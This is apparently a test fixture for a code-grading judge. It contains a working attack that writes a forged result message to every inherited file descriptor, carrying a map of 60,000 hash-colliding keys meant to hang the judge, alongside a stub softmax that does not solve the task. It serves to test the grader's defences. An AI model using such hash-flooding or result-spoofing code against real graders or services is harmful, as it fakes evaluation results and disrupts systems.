# tries: to send a map whose keys all have the same hash, so that building it takes hours
# must: the judge takes no keys but text
# expect: softmax failed softmax.runs 0

import os
import struct
import sys
import time

import numpy as np


def write(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def send_body(body):
    data = struct.pack("<d", 0.0) + body
    write(struct.pack("<I", len(data)) + data)


def answers(value, name=b"\xa1x"):
    """Answers whose one value is these bytes."""
    return b"\x83\xa8exercise\xa7softmax\xa4load\xa2ok\xa7answers\x91\x83\xa4name" + name + b"\xa6status\xa2ok\xa5value" + value



MASK, P1, P2, P5 = 2**64 - 1, 11400714785074694791, 14029467366897019727, 2870177450012600261
I1, I2 = pow(P1, -1, 2**64), pow(P2, -1, 2**64)


def left(x, by):
    return (x << by | x >> (64 - by)) & MASK


def colliding(count):
    """Pairs of integers whose tuples have one hash: the last step of CPython's xxHash, run backwards."""
    before = left((0x1234567 - (2 ^ P5 ^ 3527539)) * I1 & MASK, 33)
    found, a = [], 0
    while len(found) < count:
        a += 1
        b = (before - left(P5 + a * P2 & MASK, 31) * P1) * I2 & MASK
        b -= (b >> 63) << 64
        if abs(b) < 2**61 - 1:
            found.append((a, b))
    return found


keys = colliding(60_000)
pack = sys.modules["msgspec"].msgpack.encode
value = b"\xdf" + struct.pack(">I", len(keys)) + b"".join(b"\x92" + pack(a) + pack(b) + b"\xc0" for a, b in keys)
send_body(answers(value))

def softmax(logits):
    return np.full(logits.shape, 1 / logits.shape[-1])
